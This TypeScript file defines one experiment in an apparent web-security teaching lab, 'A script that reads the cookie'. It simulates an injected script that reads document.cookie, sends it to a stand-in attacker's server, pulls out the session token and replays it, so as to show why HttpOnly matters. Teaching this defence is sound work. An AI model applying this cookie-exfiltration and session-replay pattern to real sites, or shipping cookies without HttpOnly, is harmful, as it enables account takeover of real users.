import { html } from '../../pages/html.ts';
import type { Experiment } from '../experiment.ts';
import { ASVS_3_3_4, NIST_5_1_1 } from '../standards.ts';

export const readingScript: Experiment = {
  id: 'reading-script',
  title: 'A script that reads the cookie',
  summary:
    'A foreign script runs in the page, and sends home what it finds in document.cookie. What does it find?',
  story:
    'One hole in one page is enough (a comment that is not escaped, a library that has been taken over), and somebody’s script runs in Ada’s page. It reads document.cookie, and sends it to a server of the attacker’s.',
  naive: 'The cookie is set without HttpOnly, so that the browser hands it to every script in the page.',
  requirements: [ASVS_3_3_4, NIST_5_1_1],
  cast: [
    { id: 'browser', label: 'Ada’s browser' },
    { id: 'server', label: 'Server' },
    { id: 'thief', label: 'Attacker’s server' },
  ],
  verdicts: {
    held: 'The script finds no cookie to send.',
    fell: 'The script sends the cookie home, and it opens the account.',
  },
  inBrowser: html`<section class="card lab-browser" data-lab-cookies hidden aria-labelledby="in-browser">
      <h2 id="in-browser">In your own browser, just now</h2>
      <dl>
        <div><dt>What <code>document.cookie</code> says on this page</dt><dd><code data-lab-cookies-own></code></dd></div>
        <div><dt>The same, while there was a harmless cookie without HttpOnly</dt><dd><code data-lab-cookies-naive></code></dd></div>
      </dl>
      <p>If you are signed in, your session’s cookie is in this browser, and no script of this page can see it.</p>
    </section>`,
  async run({ ada, browser, program, note, elsewhere, sendHome, cookieName }) {
    const owner = browser('browser');
    const thief = program('thief');
    await owner.post('/sign-in', ada);
    await owner.get('/account');
    const seen = owner.jar.readByScript();
    note('a foreign script reads document.cookie', 'browser');
    note(seen === '' ? 'it is empty' : `it says: ${seen}`, 'browser', seen === '' ? 'held' : 'fell');
    await sendHome(owner, thief, seen);
    const loot = new URLSearchParams(elsewhere.loot.at(-1)).get('cookie') ?? '';
    const token = new RegExp(`${cookieName}=([^;]+)`).exec(loot)?.[1];
    if (token !== undefined) thief.token = token;
    await thief.get('/account', { attack: true });
  },
};
